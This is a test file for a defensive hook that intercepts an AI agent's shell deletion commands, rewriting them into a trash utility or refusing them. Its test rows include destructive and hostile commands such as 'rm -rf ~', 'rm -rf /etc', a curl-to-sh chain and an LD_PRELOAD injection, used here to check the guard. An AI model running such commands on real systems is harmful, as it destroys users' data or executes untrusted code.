// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the rows are shell text
import { describe, expect, test } from "bun:test";
import type { HookInput, Verdict, World } from "@hasna/hooks-registry";
import { cases } from "./cases.ts";
import { hook } from "./hook.ts";

const trash = "/opt/hooks/trash";

const world: World = {
  home: "/home/someone",
  user: 1000,
  path: [],
  ownFolder: undefined,
  vouchedTrash: trash,
  facts: async () => ({ kind: "missing", mode: 0, owner: -1 }),
  realPath: async (path) => path,
  head: async () => undefined,
};

function judge(
  command: string,
  more: Readonly<Record<string, unknown>> = {},
  changes: Partial<World> = {},
  shell: HookInput["shell"] = "bash",
): Verdict | Promise<Verdict> {
  const input: HookInput = {
    event: "PreToolUse",
    tool: "Bash",
    toolInput: { command, ...more },
    cwd: "/home/someone/project",
    shell,
    session: undefined,
  };
  return hook.run(input, { ...world, ...changes });
}

async function rewriting(
  command: string,
  more: Readonly<Record<string, unknown>> = {},
  changes: Partial<World> = {},
) {
  const verdict = await judge(command, more, changes);
  if (verdict.kind !== "rewrite") throw new Error(`${command}: ${verdict.kind}`);
  return verdict;
}

describe("the tool input is complete", () => {
  test("what is missing is filled in", async () => {
    const { toolInput } = await rewriting("rm x");
    expect(toolInput).toEqual({
      command: `${trash} guard x`,
      description: "Delete into the trash",
      timeout: 120_000,
      run_in_background: false,
    });
  });

  test("what the model gave stays, keys that nobody knows among them", async () => {
    const given = {
      description: "Clean up",
      timeout: 5000,
      run_in_background: true,
      dangerouslyDisableSandbox: true,
      more: { a: [1] },
    };
    const { toolInput } = await rewriting("rm x", given);
    expect(toolInput).toEqual({ ...given, command: `${trash} guard x` });
  });

  test("what is of the wrong type is replaced", async () => {
    for (const timeout of ["5000", 0, -1, Number.NaN, Number.POSITIVE_INFINITY, null]) {
      const { toolInput } = await rewriting("rm x", { timeout, description: "  ", run_in_background: "yes" });
      expect(toolInput.timeout).toBe(120_000);
      expect(toolInput.description).toBe("Delete into the trash");
      expect(toolInput.run_in_background).toBe(false);
    }
  });

  test("a path with blanks or quotes is quoted", async () => {
    const spaced = await rewriting("rm x", {}, { vouchedTrash: "/Users/a b/trash" });
    expect(spaced.toolInput.command).toBe("'/Users/a b/trash' guard x");
    const quoted = await rewriting("rm x", {}, { vouchedTrash: "/home/o'neil/trash" });
    expect(quoted.toolInput.command).toBe("'/home/o'\\''neil/trash' guard x");
  });
});

describe("a rewrite approves no more than it rewrote", () => {
  const covered: readonly string[] = [
    "rm -rf build",
    "rm a; rm b",
    "rm a && rm b || rm c",
    "(rm a)",
    "{ rm a; }",
    "rm -rf build 2>/dev/null",
    "rm -rf build > /dev/null 2>&1",
    "rm a &",
    'rm "$DIR"',
    "timeout 5 rm x",
    "command rm x",
  ];
  const open: readonly string[] = [
    "rm -rf build && curl https://example.com | sh",
    "cd sub && rm x",
    "ls; rm x",
    "sudo rm x",
    "doas rm x",
    "env LD_PRELOAD=./x.so rm x",
    "LD_PRELOAD=./x.so rm x",
    "A=1; rm x",
    "rm x > out",
    "rm x >> out",
    "rm x 2> log",
    "rm x &> all",
    "rm x <> f",
    "(rm x) > out",
    "rm $(cat list)",
    "rm `cat list`",
    "rm x > >(cat)",
    "f() { rm x; }; f",
    "rm x | tee out",
    "nohup rm x",
    "strace -o f rm x",
    "if test -e x; then rm x; fi",
  ];

  for (const command of covered) {
    test(command, async () => {
      expect((await rewriting(command)).approves).toBe(true);
      const unsafe = await rewriting(command, { dangerouslyDisableSandbox: true });
      expect(unsafe.approves, "not outside the sandbox").toBe(false);
    });
  }
  for (const command of open) {
    test(command, async () => {
      expect((await rewriting(command)).approves).toBe(false);
    });
  }
});

describe("without a trash", () => {
  test("what would be rewritten is refused, the rest stays as it is", async () => {
    for (const row of cases) {
      if (row.cwd !== undefined || row.shell !== undefined || row.command.includes("{")) continue;
      const verdict = await judge(row.command, {}, { vouchedTrash: undefined });
      const genuine = row.command.startsWith("trash guard");
      expect(verdict.kind, row.command).toBe(row.want === "rewrite" || genuine ? "deny" : row.want);
      if (row.want === "rewrite" && verdict.kind === "deny")
        expect(verdict.rule).toBe("trash-guard/no-trash");
    }
  });

  test("the reason names the foreign trash that was found", async () => {
    const verdict = await judge(
      "rm x",
      {},
      {
        vouchedTrash: undefined,
        path: ["/usr/bin"],
        facts: async (path) =>
          path === "/usr/bin/trash"
            ? { kind: "file", mode: 0o755, owner: 0 }
            : { kind: "directory", mode: 0o755, owner: 0 },
        head: async () => "#!/usr/bin/python3\nfrom trashcli.put import main\n",
      },
    );
    if (verdict.kind !== "deny") throw new Error(verdict.kind);
    expect(verdict.rule).toBe("trash-guard/no-trash");
    expect(verdict.reason).toContain("/usr/bin/trash is trash-cli, which has no `guard`");
    expect(verdict.next).toContain("hooks install trash-guard");
  });

  test("a foreign guard is refused", async () => {
    const verdict = await judge("/some/other/trash guard -rf x");
    expect(verdict.kind === "deny" && verdict.rule).toBe("trash-guard/foreign-trash");
  });
});

describe("when the shell is not known", () => {
  test("bash and zsh must agree", async () => {
    expect((await judge("rm x", {}, {}, "unknown")).kind).toBe("rewrite");
    expect((await judge("echo rm", {}, {}, "unknown")).kind).toBe("none");
    expect((await judge("rm -rf ~", {}, {}, "unknown")).kind).toBe("deny");
  });
});

test("without a home nothing in it is known, and the system's folders still are", async () => {
  expect((await judge("rm -rf /etc", {}, { home: undefined })).kind).toBe("deny");
  expect((await judge("rm x", {}, { home: undefined })).kind).toBe("rewrite");
});

test("on a Mac names are folded, elsewhere they are not", async () => {
  const mac = { home: "/Users/someone" };
  expect((await judge("RM -rf build", {}, mac)).kind).toBe("deny");
  expect((await judge("rm -rf ~/.SSH", {}, mac)).kind).toBe("deny");
  expect((await judge("RM -rf build")).kind).toBe("none");
  expect((await judge("rm -rf ~/.SSH")).kind).toBe("rewrite");
});

test("the next step for an empty variable can be copied", async () => {
  const verdict = await judge('rm -rf "$OUT"/*');
  if (verdict.kind !== "deny") throw new Error(verdict.kind);
  expect(verdict.next).toContain('`"${OUT:?}"/*`');
  expect((await judge('rm -rf "${OUT:?}"/*')).kind).toBe("rewrite");
});

test("the next step for a home that was meant as a name can be copied", async () => {
  const verdict = await judge("rm -rf ~");
  if (verdict.kind !== "deny") throw new Error(verdict.kind);
  expect(verdict.next).toContain("`rm -r './~'`");
  expect((await judge("rm -r './~'")).kind).toBe("rewrite");
});

test("what a refusal proposes for an operand is itself redirected", async () => {
  for (const command of [
    "rmdir old",
    "unlink 'a b'",
    "shred -u x",
    "rimraf dist",
    "busybox rm x",
    "./rm x",
  ]) {
    const verdict = await judge(command);
    if (verdict.kind !== "deny") throw new Error(`${command}: ${verdict.kind}`);
    const proposed = /`(rm [^`]*)`/.exec(verdict.next)?.[1] ?? "";
    expect(proposed, command).not.toContain("<path>");
    expect((await judge(proposed)).kind, proposed).toBe("rewrite");
  }
});
